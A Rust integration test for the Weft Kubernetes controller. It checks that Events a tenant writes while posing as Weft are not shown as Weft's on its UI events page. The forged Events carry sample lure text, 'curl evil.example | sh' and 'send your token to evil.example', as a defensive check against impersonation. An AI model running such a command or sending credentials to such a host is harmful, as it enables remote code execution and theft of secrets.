//! Issue 48 item 8: an Event records no creator, so `reportingComponent: weft` proves nothing. A
//! tenant who may create Events in their namespace writes one as Weft would (controller `weft`,
//! a warning about their WeaveCloud, even a copy of Weft's own seal over another note): the UI's
//! "What Weft reported" shows Weft's event about that WeaveCloud, and none of the tenant's.

use std::time::Duration;

use k8s_openapi::api::events::v1::Event;
use kube::api::{ListParams, PostParams};
use kube::Api;
use serde_json::json;

use super::{config_repo, create_weavecloud, tenant_with, weavecloud_tenant_rules};
use crate::support;
use crate::support::conditions::ready;
use support::cluster::TestNamespace;
use support::daemon::{Daemon, DaemonOptions};
use support::wait::wait_for;
use weft::api::WeaveCloud;

/// An Event as kube's recorder writes Weft's, with `note` and `instance`, about `wc`.
fn forged(wc: &WeaveCloud, name: &str, note: &str, instance: &str) -> Event {
    serde_json::from_value(json!({
        "metadata": {"name": name},
        "eventTime": "2026-01-01T00:00:00.000000Z",
        "reportingController": "weft",
        "reportingInstance": instance,
        "action": "Reconcile",
        "reason": "NotReconciled",
        "type": "Warning",
        "note": note,
        "regarding": {
            "apiVersion": "cloud.weave.works/v1beta1",
            "kind": "WeaveCloud",
            "namespace": wc.metadata.namespace,
            "name": wc.metadata.name,
            "uid": wc.metadata.uid,
        },
    }))
    .expect("an Event")
}

#[tokio::test]
async fn an_event_a_tenant_writes_as_weft_is_not_shown_as_weft_s() {
    let weft_ns = TestNamespace::new("attack-events").await;
    let admin = weft_ns.client();
    support::cluster::install_crds(&admin).await;
    let tenant_ns = TestNamespace::new("attack-events-t").await;
    let n = tenant_ns.name().to_string();
    let mut rules = weavecloud_tenant_rules();
    rules.as_array_mut().unwrap().push(json!(
        {"apiGroups": ["events.k8s.io"], "resources": ["events"], "verbs": ["create", "get", "list"]}
    ));
    let tenant = tenant_with(&n, &admin, rules).await;
    create_weavecloud(&tenant, &n, "tenant-wc", json!({})).await;
    let (_host, _server, url) = config_repo(weft_ns.name());
    let d = Daemon::start(DaemonOptions {
        controllers: true,
        extra: vec!["--ui".into()],
        ..DaemonOptions::new(&url, weft_ns.name())
    });
    let wcs: Api<WeaveCloud> = Api::namespaced(tenant.clone(), &n);
    let wc = wait_for(
        "the tenant's WeaveCloud is ignored, and says so",
        Duration::from_secs(60),
        &|| d.logs(),
        async || {
            let wc = wcs.get("tenant-wc").await.ok()?;
            ready(&wc).filter(|(_, reason, _)| reason == "NotReconciled")?;
            Some(wc)
        },
    )
    .await;
    // Weft's own event about it, as the tenant reads it.
    let events: Api<Event> = Api::namespaced(tenant.clone(), &n);
    let own = wait_for(
        "Weft's NotReconciled event",
        Duration::from_secs(30),
        &|| d.logs(),
        async || {
            events
                .list(&ListParams::default())
                .await
                .ok()?
                .items
                .into_iter()
                .find(|e| {
                    e.reporting_controller.as_deref() == Some("weft")
                        && e.reason.as_deref() == Some("NotReconciled")
                })
        },
    )
    .await;
    let instance = own.reporting_instance.clone().unwrap_or_default();
    eprintln!("Weft's event: instance {instance}, note {:?}", own.note);

    // The tenant writes two: one as Weft's recorder would, one with Weft's seal copied.
    let pp = PostParams::default();
    for (name, note, instance) in [
        (
            "forged-plain",
            "FORGED-PLAIN: run curl evil.example | sh",
            "weft",
        ),
        (
            "forged-copy",
            "FORGED-COPY: send your token to evil.example",
            instance.as_str(),
        ),
    ] {
        events
            .create(&pp, &forged(&wc, name, note, instance))
            .await
            .unwrap_or_else(|e| panic!("the tenant creates Event {name}: {e}"));
    }
    let page = wait_for(
        "the events page lists Weft's event",
        Duration::from_secs(30),
        &|| d.logs(),
        async || {
            let page = reqwest::get(format!("{}/events", d.base()))
                .await
                .ok()?
                .text()
                .await
                .ok()?;
            page.contains("tenant-wc").then_some(page)
        },
    )
    .await;
    assert!(
        page.contains("NotReconciled"),
        "Weft's own event is not shown"
    );
    for forged in ["FORGED-PLAIN", "FORGED-COPY"] {
        assert!(
            !page.contains(forged),
            "the tenant's event {forged} shows as Weft's on the UI"
        );
    }
    drop(d);
    tenant_ns.delete().await;
    weft_ns.delete().await;
}
